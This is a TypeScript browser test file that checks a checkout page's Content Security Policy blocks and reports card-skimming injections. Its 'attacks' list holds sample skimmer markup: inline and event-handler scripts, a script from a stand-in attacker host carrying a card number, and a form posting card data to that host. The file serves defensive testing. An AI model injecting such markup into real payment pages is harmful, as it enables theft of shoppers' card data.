import type { Browser, Page } from 'playwright-core';
import { browserMissing, startChromium } from './chromium';
import { type HostAnswer, type HostRequest, type HttpsServer, startHttpsServer } from './https-server';
import { CHECKOUT, EVIL, PROVIDER, paymentShop, SHOP } from './payment-shop';
import { type CollectedLine, type ReportCollector, startReportCollector } from './report-collector';
import { certificateMissing, throwAwayCertificate } from './throw-away-certificate';

const missing = browserMissing() ?? certificateMissing();
if (missing !== undefined) console.warn(`SKIPPED: the payment page is not tested in a browser: ${missing}.`);
const describeInBrowser = missing === undefined ? describe : describe.skip;

jest.setTimeout(120_000);

describeInBrowser('the payment page in Chromium, with the headers of its template', () => {
  const shop = paymentShop();
  let server: HttpsServer;
  let browser: Browser;
  let collector: ReportCollector;
  let changed: (request: HostRequest) => HostAnswer | undefined = () => undefined;

  beforeAll(async () => {
    collector = startReportCollector({ scriptHosts: [SHOP, PROVIDER], knownHosts: [SHOP, PROVIDER] });
    server = await startHttpsServer(throwAwayCertificate([SHOP, PROVIDER, EVIL]), (request) =>
      request.method === 'POST' && request.path === '/_reports/violations' && request.host === SHOP
        ? collector.answer(request)
        : (changed(request) ?? shop.answer(request)),
    );
    browser = await startChromium(server.browserArguments);
  });

  afterEach(() => {
    changed = () => undefined;
  });

  afterAll(async () => {
    await browser?.close();
    server?.close();
    collector?.stop();
  });

  /** A page whose HTML has more markup, as somebody who can write into it would have it. */
  const injected = (more: string) => {
    changed = ({ host, path }) =>
      host === SHOP && path === '/checkout' ? { headers: pageHeaders(), body: shop.page(more) } : undefined;
  };

  const pageHeaders = () => ({ ...shop.headers, 'content-type': 'text/html; charset=utf-8' });

  async function open(address = CHECKOUT): Promise<Page> {
    const page = await (await browser.newContext()).newPage();
    await page.goto(address);
    return page;
  }

  const ran = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string[] }).ran);

  /** The violation that the collector logs next; fails when none comes. */
  async function reported(since: number, where: (line: CollectedLine) => boolean): Promise<CollectedLine> {
    for (const end = Date.now() + 30_000; Date.now() < end; ) {
      const line = collector.violations.slice(since).find(where);
      if (line !== undefined) return line;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error(`not reported; but ${JSON.stringify(collector.violations.slice(since))}`);
  }

  test('as it should be, it runs its scripts and nothing is reported', async () => {
    const before = collector.violations.length;

    const page = await open();
    await page.waitForTimeout(3_000);

    expect(await ran(page)).toEqual(['inline', 'asset', 'provider']);
    const frame = page.frames().find((one) => one.url() === `https://${PROVIDER}/fields`);
    expect(await frame?.evaluate(() => (window as unknown as { ran?: string[] }).ran)).toEqual(['fields']);
    expect(collector.violations.slice(before)).toEqual([]);
    await page.context().close();
  });

  const attacks: readonly (readonly [string, string, Partial<CollectedLine>, string])[] = [
    [
      'an injected inline script',
      "<script>window.ran.push('skimmer')</script>",
      { directive: 'script-src-elem', host: 'inline', unknownScriptHost: false },
      'Violations script-src-elem inline',
    ],
    [
      'an injected script of a third party',
      `<script src="https://${EVIL}/skimmer.js?card=4111"></script>`,
      { directive: 'script-src-elem', host: EVIL, unknownScriptHost: true },
      'UnknownScriptHost',
    ],
    [
      "a script of the shop with an attacker's integrity",
      '<script src="/assets/checkout.js" integrity="sha384-AAAA" crossorigin></script>',
      { directive: 'script-src-elem', host: SHOP, unknownScriptHost: false },
      `Violations script-src-elem ${SHOP}`,
    ],
    [
      'an event handler in an attribute',
      `<img src="/none.png" alt="" onerror="window.ran.push('skimmer')">`,
      { directive: 'script-src-attr', host: 'inline', unknownScriptHost: false },
      'Violations script-src-attr inline',
    ],
    [
      'a form that posts elsewhere',
      `<form id="pay" method="post" action="https://${EVIL}/collect"><input name="card" value="4111"></form>`,
      { directive: 'form-action', host: EVIL, unknownScriptHost: false },
      'Violations form-action other',
    ],
  ];

  test.each(attacks)('%s is blocked and reported', async (_title, markup, expected, metric) => {
    const before = collector.violations.length;
    injected(markup);

    const page = await open();
    await page.evaluate(() => (document.querySelector('#pay') as HTMLFormElement | null)?.submit());
    const line = await reported(before, ({ directive }) => directive === expected.directive);

    expect(line).toMatchObject({ ...expected, path: '/checkout', reportOnly: false });
    expect(collector.metrics).toContain(metric);
    expect(await ran(page)).toEqual(['inline', 'asset', 'provider']);
    expect(server.requests.filter(({ host }) => host === EVIL)).toEqual([]);
    await page.context().close();
  });

  test('a changed script with its old integrity does not run, and the page itself reports it', async () => {
    changed = ({ path }) =>
      path === '/assets/checkout.js'
        ? { headers: { 'content-type': 'text/javascript' }, body: "window.ran.push('skimmer')" }
        : undefined;
    const before = collector.violations.length;

    const page = await open();
    const line = await reported(before, ({ directive }) => directive === 'integrity');

    expect(line).toMatchObject({ host: SHOP, path: '/checkout', unknownScriptHost: false });
    expect(collector.metrics).toContain('PinnedScriptFailed');
    expect(await ran(page)).toEqual(['inline', 'provider']);
    await page.context().close();
  });

  test('a page of somebody else cannot frame it', async () => {
    const before = collector.violations.length;

    const page = await open(`https://${EVIL}/framing`);
    const line = await reported(before, ({ directive }) => directive === 'frame-ancestors');

    expect(line).toMatchObject({ directive: 'frame-ancestors', host: SHOP, path: '/', reportOnly: false });
    expect(page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    await page.context().close();
  });

  test('reports came in both forms that browsers have', () => {
    const posted = server.requests
      .filter(({ method, host, path }) => method === 'POST' && host === SHOP && path === '/_reports/violations')
      .map(({ headers }) => headers['content-type']);

    expect(new Set(posted)).toEqual(new Set(['application/csp-report', 'application/reports+json']));
  });

  test('no report leaves a query or a card number in the log', () => {
    expect(collector.violations.length).toBeGreaterThan(5);
    expect(JSON.stringify(collector.violations)).not.toMatch(/4111|skimmer\.js|[?#]/);
  });
});
